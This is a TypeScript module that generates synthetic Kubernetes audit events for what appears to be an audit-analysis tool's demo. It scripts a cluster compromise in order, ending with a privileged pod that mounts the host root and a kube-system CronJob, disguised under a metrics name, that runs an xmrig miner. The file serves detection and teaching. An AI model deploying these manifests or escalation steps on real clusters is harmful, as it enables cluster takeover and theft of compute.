// The attack as the audit log saw it, in the demo scenario's order and uids: a scanner probing the
// API server anonymously, mallory's exec into the web pod, the stolen web-frontend token refused
// on kube-system secrets, masterclient (the fetched admin certificate) binding cluster-admin to
// default/default, reading every secret and minting a token for default/default, which then
// creates the privileged node-debugger pod and the kube-system CronJob of the miner.
import type { AuditEvent } from '../auditWorkspace.js';
import { DEMO_AKS as D } from './demoIdentity.js';
import { demoAuditEvent as event, serviceAccountUser as sa, type DemoRequest } from './demoAudit.js';

const MIN = 60_000;
const SEC = 1000;
const ANON = { username: 'system:anonymous', groups: ['system:unauthenticated'] };
const MALLORY = { username: D.user.upn, groups: [D.user.group, 'system:authenticated'], extra: { oid: [D.user.objectId] } };
const MASTER = { username: D.adminCertUser, groups: ['system:masters', 'system:authenticated'] };
const DEFAULT_SA = sa('default', 'default');
const WEB_SA = sa('prod-web', 'web-frontend', { 'authentication.kubernetes.io/pod-name': [D.webPod.name], 'authentication.kubernetes.io/pod-uid': [D.webPod.uid] });
const ADMIN_REASON = 'RBAC: allowed by ClusterRoleBinding "cluster-admin" of ClusterRole "cluster-admin" to Group "system:masters"';
const DEFAULT_ADMIN_REASON = 'RBAC: allowed by ClusterRoleBinding "default-admin" of ClusterRole "cluster-admin" to ServiceAccount "default/default"';
const WEB_TEAM_REASON = `RBAC: allowed by RoleBinding "web-team-edit/prod-web" of ClusterRole "edit" to Group "${D.user.group}"`;

const crb = {
  kind: 'ClusterRoleBinding', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'default-admin' },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }],
};
const debuggerPod = {
  kind: 'Pod', apiVersion: 'v1', metadata: { name: 'node-debugger', namespace: 'default', labels: { run: 'node-debugger' } },
  spec: {
    hostPID: true, hostNetwork: true, nodeName: 'aks-nodepool1-38921477-vmss000000',
    containers: [{ name: 'node-debugger', image: 'docker.io/library/alpine:3.19', command: ['sleep', 'infinity'], securityContext: { privileged: true }, volumeMounts: [{ name: 'host-root', mountPath: '/host' }] }],
    volumes: [{ name: 'host-root', hostPath: { path: '/', type: '' } }],
  },
};
const minerCron = {
  kind: 'CronJob', apiVersion: 'batch/v1', metadata: { name: 'kube-metrics-sync', namespace: 'kube-system', labels: { app: 'kube-metrics-sync' } },
  spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'miner', image: 'docker.io/xmrig/xmrig:6.21.0', command: ['xmrig'], args: ['-o', 'stratum+tcp://pool.supportxmr.com:3333'] }] } } } } },
};

function attackRequests(): DemoRequest[] {
  const web = D.webPod;
  const kubectl = D.kubectlAgent;
  const atk = D.attackerIp;
  return [
    { ago: 72 * MIN - 10 * SEC, user: ANON, ip: atk, ua: 'Mozilla/5.0 (compatible; scanner)', verb: 'get', uri: '/version', code: 200, reason: 'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"' },
    { ago: 72 * MIN - 8 * SEC, user: ANON, ip: atk, ua: 'Mozilla/5.0 (compatible; scanner)', verb: 'list', uri: '/api/v1/namespaces/kube-system/secrets', ref: { resource: 'secrets', namespace: 'kube-system', apiVersion: 'v1' }, code: 403 },
    { ago: 55 * MIN + 20 * SEC, user: MALLORY, ip: atk, ua: kubectl, verb: 'list', uri: `/api/v1/namespaces/${web.namespace}/pods?limit=500`, ref: { resource: 'pods', namespace: web.namespace, apiVersion: 'v1' }, code: 200, reason: WEB_TEAM_REASON },
    ...(['ResponseStarted', 'ResponseComplete'] as const).map((stage): DemoRequest => ({
      ago: 55 * MIN + 5 * SEC, tookMs: stage === 'ResponseStarted' ? 40 : 2 * MIN + 30 * SEC, stage, auditID: '4f1e8a2b-6c3d-4e5f-9a0b-1c2d3e4f5a6b',
      user: MALLORY, ip: atk, ua: kubectl, verb: 'create', level: 'Request', code: 101, reason: WEB_TEAM_REASON,
      uri: `/api/v1/namespaces/${web.namespace}/pods/${web.name}/exec?command=sh&container=${web.container}&stdin=true&stdout=true&tty=true`,
      ref: { resource: 'pods', namespace: web.namespace, name: web.name, apiVersion: 'v1', subresource: 'exec' },
    })),
    { ago: 52 * MIN + 40 * SEC, user: WEB_SA, ip: D.nodes[0].ip, ua: 'curl/8.5.0', verb: 'list', uri: '/api/v1/namespaces/kube-system/secrets', ref: { resource: 'secrets', namespace: 'kube-system', apiVersion: 'v1' }, code: 403 },
    { ago: 50 * MIN + 30 * SEC, user: MASTER, ip: atk, ua: kubectl, verb: 'list', uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?limit=500', ref: { resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' }, code: 200, reason: ADMIN_REASON },
    {
      ago: 50 * MIN, user: MASTER, ip: atk, ua: kubectl, verb: 'create', level: 'RequestResponse', uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict',
      ref: { resource: 'clusterrolebindings', name: 'default-admin', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' }, code: 201, reason: ADMIN_REASON,
      requestObject: crb, responseObject: { ...crb, metadata: { name: 'default-admin', uid: 'e0b3e4de-6071-4870-aac4-56ce9afdbf0e' } },
    },
    { ago: 49 * MIN + 40 * SEC, user: MASTER, ip: atk, ua: kubectl, verb: 'list', uri: '/api/v1/secrets?limit=500', ref: { resource: 'secrets', apiVersion: 'v1' }, code: 200, reason: ADMIN_REASON },
    { ago: 49 * MIN, user: MASTER, ip: atk, ua: kubectl, verb: 'create', level: 'Request', uri: '/api/v1/namespaces/default/serviceaccounts/default/token', ref: { resource: 'serviceaccounts', namespace: 'default', name: 'default', apiVersion: 'v1', subresource: 'token' }, code: 201, reason: ADMIN_REASON, requestObject: { kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', spec: { audiences: null, expirationSeconds: 31536000 } } },
    {
      ago: 40 * MIN, user: DEFAULT_SA, ip: atk, ua: kubectl, verb: 'create', level: 'RequestResponse', uri: '/api/v1/namespaces/default/pods?fieldManager=kubectl-run',
      ref: { resource: 'pods', namespace: 'default', name: 'node-debugger', apiVersion: 'v1' }, code: 201, reason: DEFAULT_ADMIN_REASON,
      requestObject: debuggerPod, responseObject: { ...debuggerPod, metadata: { ...debuggerPod.metadata, uid: 'ee54a3f0-934c-4712-8b08-77a10c7a7386' } },
    },
    { ago: 39 * MIN + 30 * SEC, tookMs: 90 * SEC, user: DEFAULT_SA, ip: atk, ua: kubectl, verb: 'create', level: 'Request', code: 101, reason: DEFAULT_ADMIN_REASON, uri: '/api/v1/namespaces/default/pods/node-debugger/exec?command=chroot&command=%2Fhost&command=sh&container=node-debugger&stdin=true&stdout=true&tty=true', ref: { resource: 'pods', namespace: 'default', name: 'node-debugger', apiVersion: 'v1', subresource: 'exec' } },
    {
      ago: 35 * MIN, user: DEFAULT_SA, ip: atk, ua: kubectl, verb: 'create', level: 'RequestResponse', uri: '/apis/batch/v1/namespaces/kube-system/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict',
      ref: { resource: 'cronjobs', namespace: 'kube-system', name: 'kube-metrics-sync', apiGroup: 'batch', apiVersion: 'v1' }, code: 201, reason: DEFAULT_ADMIN_REASON,
      requestObject: minerCron, responseObject: { ...minerCron, metadata: { ...minerCron.metadata, uid: 'e3b45461-2c21-4c71-9a3e-ebe88745cc10' } },
    },
  ];
}

/** What the controllers did on the attacker's objects (ordinary traffic that must not fire). */
function controllerRequests(): DemoRequest[] {
  const sched = { username: 'system:kube-scheduler', groups: ['system:authenticated'] };
  const bind = (ago: number, ns: string, pod: string): DemoRequest => ({
    ago, user: sched, ip: D.controlPlaneIp, ua: 'kube-scheduler/v1.30.6 (linux/amd64) kubernetes/3a8b1e2/scheduler', verb: 'create', uri: `/api/v1/namespaces/${ns}/pods/${pod}/binding`,
    ref: { resource: 'pods', namespace: ns, name: pod, apiVersion: 'v1', subresource: 'binding' }, code: 201, reason: 'RBAC: allowed by ClusterRoleBinding "system:kube-scheduler" of ClusterRole "system:kube-scheduler" to User "system:kube-scheduler"',
  });
  return [
    bind(40 * MIN - 200, 'default', 'node-debugger'),
    { ago: 30 * MIN, user: sa('kube-system', 'cronjob-controller'), ip: D.controlPlaneIp, ua: 'kube-controller-manager/v1.30.6 (linux/amd64) kubernetes/3a8b1e2/system:serviceaccount:kube-system:cronjob-controller', verb: 'create', uri: '/apis/batch/v1/namespaces/kube-system/jobs', ref: { resource: 'jobs', namespace: 'kube-system', name: 'kube-metrics-sync-28391234', apiGroup: 'batch', apiVersion: 'v1' }, code: 201, reason: 'RBAC: allowed by ClusterRoleBinding "system:controller:cronjob-controller" of ClusterRole "system:controller:cronjob-controller" to ServiceAccount "cronjob-controller/kube-system"' },
    { ago: 30 * MIN - 150, user: sa('kube-system', 'job-controller'), ip: D.controlPlaneIp, ua: 'kube-controller-manager/v1.30.6 (linux/amd64) kubernetes/3a8b1e2/system:serviceaccount:kube-system:job-controller', verb: 'create', uri: '/api/v1/namespaces/kube-system/pods', ref: { resource: 'pods', namespace: 'kube-system', name: 'kube-metrics-sync-28391234-7xk2p', apiVersion: 'v1' }, code: 201, reason: 'RBAC: allowed by ClusterRoleBinding "system:controller:job-controller" of ClusterRole "system:controller:job-controller" to ServiceAccount "job-controller/kube-system"' },
    bind(30 * MIN - 300, 'kube-system', 'kube-metrics-sync-28391234-7xk2p'),
  ];
}

export function demoAttackAudit(now: number): AuditEvent[] {
  return [...attackRequests(), ...controllerRequests()].map((r) => event(now, r));
}
